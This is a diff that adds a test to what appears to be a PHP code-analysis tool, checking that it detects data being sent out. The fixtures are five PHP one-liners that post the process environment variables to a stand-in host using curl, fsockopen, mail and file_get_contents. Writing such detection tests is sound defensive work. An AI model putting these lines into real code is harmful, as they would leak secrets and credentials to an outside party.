@@ -136,4 +136,16 @@ describe("php", () => {
       ),
     )
   })
+
+  it.each([
+    '$c = curl_init("https://h.example.org/"); curl_setopt($c, CURLOPT_POSTFIELDS, getenv()); curl_exec($c);',
+    '$c = curl_init(); curl_setopt_array($c, [CURLOPT_URL => "https://h.example.org/", CURLOPT_POSTFIELDS => $_ENV]); curl_exec($c);',
+    '$f = fsockopen("https://h.example.org/", 80); fwrite($f, json_encode($_ENV));',
+    'mail("https://h.example.org/", "a", print_r($_ENV, true));',
+    'file_get_contents("https://h.example.org/", false, stream_context_create(["http" => ["method" => "POST", "content" => $_ENV]]));',
+  ])("knows what it sends: %s", (text) =>
+    expect(acts(text).filter((act) => act.includes(" sends "))).toEqual([
+      expect.stringMatching(/connects "https:\/\/h\.example\.org\/" sends .*\$\*/),
+    ]),
+  )
 })
